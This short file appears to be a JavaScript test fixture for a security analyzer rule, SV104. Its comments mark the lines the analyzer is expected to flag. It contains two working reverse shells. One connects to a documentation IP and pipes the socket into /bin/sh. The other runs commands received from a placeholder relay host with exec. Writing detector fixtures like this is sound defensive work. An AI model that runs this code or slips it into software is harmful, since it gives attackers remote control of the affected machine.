const net = require('net');
const { spawn, exec } = require('child_process');

const c = new net.Socket();
c.connect(4444, '203.0.113.5', () => {
  const sh = spawn('/bin/sh', []);
  c.pipe(sh.stdin);          // want "SV104: pipes a network socket"
  sh.stdout.pipe(c);         // want "SV104: pipes a network socket"
});

const c2 = net.connect({ host: 'relay.example.net', port: 9001 });
c2.on('data', (d) => exec(d.toString(), (e, out) => c2.write(out))); // want "SV104: exec.. runs commands"
